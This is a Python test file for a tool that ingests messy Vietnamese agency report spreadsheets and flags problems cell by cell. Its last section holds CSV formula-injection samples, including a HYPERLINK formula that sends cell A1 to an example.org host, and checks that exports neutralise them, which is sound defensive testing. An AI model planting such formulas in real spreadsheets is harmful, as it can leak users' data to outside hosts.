"""What real workbooks look like: each kind of mess is read right, or flagged at its cell."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from unicodedata import normalize

import pytest
from openpyxl import load_workbook

from scripts.make_messes import (
    FIGURES,
    FIXTURES,
    FOLDER,
    FORM,
    FURTHER,
    PAGE,
    SPENDING,
    TABLE,
    TABLE_REPORTS,
    TASKS,
    TEXTS,
    Fixture,
    checked_file,
    page,
    tcvn3,
    vni,
)
from scripts.make_samples import FIELDS, FINAL, NO, PAPER, STATION
from tbdx import tables
from tbdx.i18n import language
from tbdx.model import Answer, CheckedFile, Phase, Verdict
from tbdx.plan import Plan
from tbdx.provenance import Taking
from tbdx.service import Service
from tbdx.tables import Filters
from tbdx.workbook.appendix import read_appendix
from tbdx.workbook.template import Value

NA = Answer.NOT_APPLICABLE
OK, REMARKS, BLOCKING, UNREADABLE = (
    Verdict.OK,
    Verdict.REMARKS,
    Verdict.BLOCKING,
    Verdict.UNREADABLE,
)
MATURITY, APPENDIX = "Mức độ trưởng thành", "Phụ lục"
TABS = ("Chi tieu", "Nhiem vu", "Kinh phi", "Muc do truong thanh", "Kho khan", "Huong dan")
BY_FILE = {fixture.file: fixture for fixture in FIXTURES}

Panel = dict[tuple[str, int, Phase, str], Value]
Shares = Mapping[tuple[int, int], float | None]
"""Targets that differ from the plan's: by row and year, None where there is none."""


# --- what must be found -----------------------------------------------------------------------


def of_form(**others: Value) -> Panel:
    """What the clean form says, with other values in some fields."""
    return {(PAPER, 2024, FINAL, k): v for k, v in (FIGURES | FURTHER | others).items()}


def of_table(**others: Sequence[Value]) -> Panel:
    """What the clean table says, with other values in some columns, from the first row on."""
    panel: Panel = {}
    for number, (agency, year, phase, values) in enumerate(TABLE_REPORTS):
        for name, value in zip(FIELDS, values, strict=True):
            column = others.get(name, ())
            panel[agency, year, phase, name] = column[number] if number < len(column) else value
    return panel


def of_station(phase: Phase) -> Panel:
    """What the table says of the station in 2024, in another phase."""
    values = TABLE_REPORTS[4][3]
    return {(STATION, 2024, phase, k): v for k, v in zip(FIELDS, values, strict=True)}


@dataclass(frozen=True)
class Expected:
    """What must become of a fixture: verdict, findings as "code sheet!cell", values read.

    `read` is everything that is read, or, for an appendix, the targets that differ.
    """

    verdict: Verdict
    findings: tuple[str, ...] = ()
    read: Panel | Shares | None = None


def at(code: str, sheet: str, *cells: str) -> list[str]:
    """The same finding in several cells of a sheet."""
    return [f"{code} {sheet}!{cell}" for cell in cells]


FORM_SAME, TABLE_SAME = of_form(), of_table()
MESSES: dict[str, Expected] = {
    # 1 merged headers and labels
    "01-merged-headers.xlsx": Expected(OK, (), TABLE_SAME),
    "01-merged-headers.ods": Expected(OK, (), TABLE_SAME),
    "01-two-level-headers.xlsx": Expected(OK, (), TABLE_SAME),
    "01-merged-labels-form.xlsx": Expected(OK, (), FORM_SAME),
    # 2 title rows, numbering row, totals, notes, signatures
    "02-titles-totals-signatures.xlsx": Expected(OK, (), TABLE_SAME),
    "02-wrong-total.xlsx": Expected(REMARKS, (f"total-differs {TABLE}!L16",), TABLE_SAME),
    # 3 one percentage in many writings
    "03-percents-appendix.xlsx": Expected(
        REMARKS,
        (f"appendix-hidden-decimals {APPENDIX}!D13",),
        {(2, 2024): 33.33, (2, 2025): 66.67, (3, 2025): 66.67},
    ),
    "03-doubtful-percents-appendix.xlsx": Expected(
        BLOCKING,
        (
            f"appendix-bare-fraction {APPENDIX}!C11",
            f"appendix-share-out-of-range {APPENDIX}!D11",
            f"appendix-bare-fraction {APPENDIX}!E15",
        ),
        {(1, 2023): None, (1, 2024): None, (5, 2025): None},
    ),
    "03-percents-form.xlsx": Expected(
        BLOCKING,
        (*at("percent-for-number", FORM, "E21", "E22"),),
        of_form(staff_count=None, trained_count=None),
    ),
    "03-hundred-percent.xlsx": Expected(
        BLOCKING,
        (f"not-an-answer {FORM}!E14", *at("percent-for-number", FORM, "E20", "E22", "E23")),
        of_form(
            on_digital_platforms=None,
            revenue_million_vnd=None,
            trained_count=None,
            security_level=None,
        ),
    ),
    # 4 1.500: decided by the cell's type, then by the unit; else asked
    "04-one-reading.xlsx": Expected(
        REMARKS,
        (*at("number-as-text", FORM, "E19", "E20"),),
        of_form(
            revenue_2022_million_vnd=1450.0, revenue_million_vnd=1500.0, spending_state_budget=1.5
        ),
    ),
    "04-two-readings.xlsx": Expected(
        BLOCKING,
        (
            f"not-a-number {FORM}!E19",
            f"ambiguous-number {FORM}!E20",
            f"not-whole {FORM}!E21",
            f"number-as-text {FORM}!E22",
            f"not-whole {FORM}!E22",
        ),
        of_form(
            revenue_2022_million_vnd=None,
            revenue_million_vnd=None,
            staff_count=None,
            trained_count=None,
        ),
    ),
    # 5 2/3 that Excel turned into a date
    "05-date-for-fraction.xlsx": Expected(
        BLOCKING,
        (f"not-an-answer {FORM}!E16", f"date-for-number {FORM}!E22"),
        of_form(uses_ai=None, trained_count=None),
    ),
    "05-date-for-fraction-appendix.xlsx": Expected(
        BLOCKING, (f"appendix-date {APPENDIX}!C11",), {(1, 2023): None}
    ),
    # 6 ranges
    "06-ranges.xlsx": Expected(
        BLOCKING,
        (*at("range-for-number", FORM, "E20", "E21", "E22"),),
        of_form(revenue_million_vnd=None, staff_count=None, trained_count=None),
    ),
    "06-ranges-appendix.xlsx": Expected(
        BLOCKING,
        (*at("appendix-range", APPENDIX, "C11", "D11", "E11"),),
        {(1, 2023): None, (1, 2024): None, (1, 2025): None},
    ),
    # 7 yes and no
    "07-answers.xlsx": Expected(OK, (), TABLE_SAME),
    "07-unknown-answers.xlsx": Expected(
        BLOCKING,
        (*at("not-an-answer", FORM, "E14", "E15", "E16", "E17"),),
        of_form(
            on_digital_platforms=None,
            uses_data_analytics=None,
            uses_ai=None,
            converged_newsroom=None,
        ),
    ),
    "07-picture-font-tick.xlsx": Expected(
        BLOCKING, (f"not-an-answer {FORM}!E14",), of_form(on_digital_platforms=None)
    ),
    # 8 empty is not 0
    "08-empty-is-not-zero.xlsx": Expected(
        REMARKS,
        (
            *at("no-answer", TABLE, "G5", "K5"),
            f"number-as-text {TABLE}!M5",
            *at("no-answer", TABLE, "G7", "K7"),
        ),
        of_table(
            uses_ai=(None, NO, None, NO, NA, NO),
            revenue_million_vnd=(None, 0.0, None),
            trained_count=(0.0,),
        ),
    ),
    "08-words-for-numbers.xlsx": Expected(
        BLOCKING,
        (*at("not-a-number", TABLE, "K5", "K6", "K7"),),
        of_table(revenue_million_vnd=(None, None, None)),
    ),
    # 9 amounts with their unit
    "09-amounts-with-units.xlsx": Expected(
        REMARKS,
        (*at("number-as-text", FORM, "E19", "E20"), f"number-as-text {SPENDING}!C5"),
        of_form(
            revenue_2022_million_vnd=12500.0,
            revenue_million_vnd=15300.0,
            spending_state_budget=1234.5,
        ),
    ),
    # 10 invisible characters
    "10-invisible-characters.xlsx": Expected(REMARKS, (f"number-as-text {FORM}!E21",), FORM_SAME),
    # 11, 12 fonts of before Unicode
    "11-tcvn3-form.xlsx": Expected(REMARKS, tuple(f"old-font {tab}!A1" for tab in TABS), FORM_SAME),
    "11-tcvn3-cells.xlsx": Expected(
        REMARKS, (f"old-font {FORM}!C7", f"old-font {TEXTS}!C5"), FORM_SAME
    ),
    "11-tcvn3-answers.xlsx": Expected(
        REMARKS, (*at("old-font", FORM, "E17", "E14", "E15"),), FORM_SAME
    ),
    "11-tcvn3-appendix.xlsx": Expected(REMARKS, (f"old-font {APPENDIX}!A1",), {}),
    "12-vni-form.xlsx": Expected(REMARKS, tuple(f"old-font {tab}!A1" for tab in TABS), FORM_SAME),
    "12-vni-cells.xlsx": Expected(
        REMARKS, (f"old-font {FORM}!C7", f"old-font {TEXTS}!C5"), FORM_SAME
    ),
    "12-vni-appendix.xlsx": Expected(REMARKS, (f"old-font {APPENDIX}!A1",), {}),
    # 13 to 15 spelling; a free text stays as typed
    "13-decomposed.xlsx": Expected(OK, (), FORM_SAME),
    "14-tone-placement.xlsx": Expected(
        OK,
        (),
        of_form(
            task_01_result="Hai hội nghị, 120 người dự (minh hoạ)",
            difficulties="Thiếu kinh phí và nhân lực kĩ thuật (minh hoạ)",
        ),
    ),
    "15-look-alike-d.xlsx": Expected(OK, (), FORM_SAME),
    # 16 names of agencies
    "16-agency-aliases.xlsx": Expected(OK, (), TABLE_SAME | of_station(Phase.ESTIMATE)),
    # 17 other sheets, last year's sheet
    "17-hidden-sheets.xlsx": Expected(REMARKS, ("hidden-sheet", "hidden-sheet"), FORM_SAME),
    "17-last-years-sheet.xlsx": Expected(BLOCKING, ("several-forms 2023",), {}),
    "17-last-years-form.xlsx": Expected(
        BLOCKING,
        (
            *at("year-mismatch", FORM, "A4", "E12", "B20"),
            *(f"year-mismatch {sheet}!A1" for sheet in (TASKS, SPENDING, MATURITY, TEXTS)),
        ),
    ),
    "17-last-years-title.xlsx": Expected(BLOCKING, (f"year-mismatch {TABLE}!A1",)),
    # 18 kinds of files
    "18-old-excel.xls": Expected(OK, (), TABLE_SAME),
    "18-macros.xlsm": Expected(REMARKS, ("macros-ignored",), FORM_SAME),
    "18-binary.xlsb": Expected(UNREADABLE, ("not-a-workbook",), {}),
    "18-password.xlsx": Expected(UNREADABLE, ("password-protected",), {}),
    "18-password.xls": Expected(UNREADABLE, ("password-protected",), {}),
    "18-old-excel-appendix.xls": Expected(UNREADABLE, ("not-a-workbook",)),
    "18-web-page-renamed.xls": Expected(UNREADABLE, ("not-a-workbook",), {}),
    "18-csv-renamed.xlsx": Expected(OK, (), TABLE_SAME),
    # 19 formulas
    "19-formula-without-value.xlsx": Expected(
        BLOCKING, (f"formula-without-value {FORM}!E21",), of_form(staff_count=None)
    ),
    "19-error-values.xlsx": Expected(
        BLOCKING,
        (*at("cell-error", FORM, "E16", "E20"), f"cell-error {SPENDING}!C5"),
        {
            key: value
            for key, value in of_form(uses_ai=None, revenue_million_vnd=None).items()
            if key[3] != "spending_state_budget"
        },
    ),
    "19-error-values.xls": Expected(
        BLOCKING,
        (*at("cell-error", FORM, "E16", "E20", "E21"),),
        of_form(uses_ai=None, revenue_million_vnd=None, staff_count=None),
    ),
    "19-linked-appendix.xlsx": Expected(REMARKS, (f"linked-workbook {APPENDIX}!C11",), {}),
    "19-linked-workbook.xlsx": Expected(
        REMARKS,
        (
            *at("linked-workbook", FORM, "C9", "C10", "C7", "C8", "E14", "E20"),
            *at("linked-workbook", TASKS, "D5", "E5"),
            f"linked-workbook {SPENDING}!C5",
        ),
        FORM_SAME,
    ),
    # 20 tables saved as text
    "20-semicolons-bom.csv": Expected(OK, (), TABLE_SAME),
    "20-utf16.csv": Expected(OK, (), TABLE_SAME),
    "20-cp1258.csv": Expected(OK, (), TABLE_SAME),
    "20-no-table.csv": Expected(UNREADABLE, ("not-a-workbook",), {}),
    # 21 several files; the store's side is tested below
    "21-first.xlsx": Expected(OK, (), FORM_SAME),
    "21-resubmission.xlsx": Expected(REMARKS, ("replaces-report",), of_form(staff_count=61.0)),
    "21-same-agency-twice.xlsx": Expected(BLOCKING, (f"repeated-row {TABLE}!C11",), TABLE_SAME),
    "21-wrong-year.xlsx": Expected(BLOCKING, (f"wrong-year {FORM}!C9",), {}),
    # 22 texts that look like formulas; the export is tested below
    "22-formula-injection.xlsx": Expected(
        OK,
        (),
        of_form(
            difficulties='=HYPERLINK("http://example.org/?"&A1;"Chi tiết")',
            proposals="+84 227 000 000 (minh họa)",
            task_01_result="-5% so với năm trước",
            task_02_result="@SUM(A1:A9)",
        ),
    ),
}
WORKBOOKS = [file for file in MESSES if not BY_FILE[file].is_appendix]
APPENDICES = [
    file
    for file, expected in MESSES.items()
    if BY_FILE[file].is_appendix and expected.verdict is not UNREADABLE
]


# --- what is found ----------------------------------------------------------------------------


def places(checked: CheckedFile) -> tuple[str, ...]:
    """The findings as Expected has them."""
    shown = [
        (f.code, "!".join(filter(None, (normalize("NFC", f.sheet), f.cell))))
        for f in checked.findings
    ]
    return tuple(" ".join(filter(None, finding)) for finding in shown)


@pytest.mark.parametrize("file", MESSES)
def test_a_mess_has_its_verdict_and_its_findings(file: str) -> None:
    """Exactly what is doubtful is flagged, at its cell, and what is certain is not."""
    checked, expected = checked_file(BY_FILE[file]), MESSES[file]
    assert places(checked) == expected.findings
    assert checked.verdict is expected.verdict


@pytest.mark.parametrize("file", WORKBOOKS)
def test_a_mess_has_the_values_of_the_clean_file(file: str) -> None:
    """Every field is read as in the clean form or table; a flagged one is never guessed."""
    checked, expected = checked_file(BY_FILE[file]), MESSES[file].read
    read = {(f.agency, f.year, f.phase, f.field): f.value for f in checked.fields}
    assert len(read) == len(checked.fields), "a field was read twice"
    if expected is not None:
        assert read == expected


@pytest.mark.parametrize("file", APPENDICES)
def test_a_mess_among_the_targets_changes_no_other_target(plan: Plan, file: str) -> None:
    """A share is the one that is meant, or there is none; every other target is the plan's."""
    clean, _ = read_appendix(plan.appendix_path.read_bytes(), plan)
    messy, _ = read_appendix((FOLDER / file).read_bytes(), plan)
    expected: dict[tuple[int, int], object] = {(t.row, t.year): t.share_pct for t in clean}
    expected |= MESSES[file].read or {}  # type: ignore[arg-type]
    shares = {(target.row, target.year): target.share_pct for target in messy}
    assert shares == {key: share for key, share in expected.items() if share is not None}


# --- the fixtures -----------------------------------------------------------------------------


def test_every_kind_of_mess_has_a_fixture() -> None:
    """The 22 kinds that real workbooks show are all here."""
    assert {int(file[:2]) for file in MESSES} == set(range(1, 23))


def test_every_fixture_is_expected_to_be_something() -> None:
    """No file lies about unread, none is missing, and none is large."""
    files = {path.name: path.stat().st_size for path in FOLDER.iterdir()}
    assert set(files) == set(MESSES) == set(BY_FILE)
    assert all(re.fullmatch(r"[0-9]{2}-[a-z0-9-]+\.[a-z]+", name) for name in files)
    assert max(files.values()) < 40_000


@pytest.mark.parametrize("fixture", [f for f in FIXTURES if not f.office], ids=lambda f: f.file)
def test_a_fixture_is_what_the_script_writes(fixture: Fixture) -> None:
    """Byte for byte, so that a fixture is never edited by hand."""
    written = (FOLDER / fixture.file).read_bytes()
    assert written == fixture.build(), "run `python -m scripts.make_messes`"


def test_the_page_lists_the_fixtures_as_they_are_checked() -> None:
    """docs/messes.md is up to date."""
    assert PAGE.read_text(encoding="utf-8") == page(), "run `python -m scripts.make_messes`"


def test_old_fonts_are_typed_as_people_typed_them() -> None:
    """The fixtures' two encoders write what stands in files of that time."""
    assert tcvn3("Cơ quan báo chí đưa nội dung") == "C¬ quan b¸o chÝ ®\xada néi dung"
    assert vni("Xin chào các bạn") == "Xin chaøo caùc baïn"


# --- 21: several files of one agency ----------------------------------------------------------


def sent(file: str, name: str) -> tuple[str, bytes]:
    """A fixture under a name as a Mac sends it: decomposed."""
    return normalize("NFD", name), (FOLDER / file).read_bytes()


FIRST, AGAIN = "Báo cáo Báo Thái Bình năm 2024.xlsx", "Báo cáo Báo Thái Bình năm 2024 (sửa).xlsx"


def test_every_version_is_kept_and_the_newest_accepted_counts(service: Service) -> None:
    """A resubmission replaces the figures, not the file; both are found under composed names."""
    for file, name in (("21-first.xlsx", FIRST), ("21-resubmission.xlsx", AGAIN)):
        service.accept(service.check([sent(file, name)]), "đã hỏi lại (minh họa)")
    versions = sorted(service.reviewing.history(PAPER, 2024), key=lambda s: s.version)
    assert [(s.version, s.file_name, s.counts) for s in versions] == [
        (1, FIRST, False),
        (2, AGAIN, True),
    ]
    assert service.view().reported(PAPER, 2024)["staff_count"] == 61
    original = (FOLDER / "21-first.xlsx").read_bytes()
    assert service.document(versions[0].sha256) == (FIRST, original)


def test_the_same_report_twice_in_one_upload_is_said(service: Service) -> None:
    """The second file names the first one; a file of a wrong year beside them is refused alone."""
    checked = service.check(
        [
            sent("21-first.xlsx", FIRST),
            sent("21-resubmission.xlsx", AGAIN),
            sent("21-wrong-year.xlsx", "Báo cáo năm 2022.xlsx"),
        ]
    )
    assert [places(file) for file in checked] == [
        (),
        ("repeated-report",),
        (f"wrong-year {FORM}!C9",),
    ]
    assert checked[1].findings[0].expected == FIRST
    assert [file.acceptable for file in checked] == [True, True, False]


# --- 22: what goes out again ------------------------------------------------------------------

LIKE_FORMULAS = [
    "-5% so với năm trước",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org/?"&A1;"Chi tiết")',
    "+84 227 000 000 (minh họa)",
]


def exported(service: Service, file_type: str) -> bytes:
    """The reported figures of the fixture as a file."""
    content = (FOLDER / "22-formula-injection.xlsx").read_bytes()
    service.accept(service.check([("22.xlsx", content)]))
    now = datetime(2024, 12, 1, tzinfo=UTC)
    return tables.export(
        service.view(), Filters("reported"), language("vi"), Taking(now), file_type
    )


def test_an_exported_csv_has_no_formula(service: Service) -> None:
    """A text that a spreadsheet would compute has an apostrophe before it."""
    text = exported(service, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert [cell[1:] for cell in cells if cell.startswith("'")] == LIKE_FORMULAS


def test_an_exported_workbook_has_no_formula(service: Service) -> None:
    """Every text is a text cell, as typed."""
    book = load_workbook(io.BytesIO(exported(service, "xlsx")))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    found = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert [cell.value for cell in found] == LIKE_FORMULAS
    assert {cell.data_type for cell in found} == {"s"}
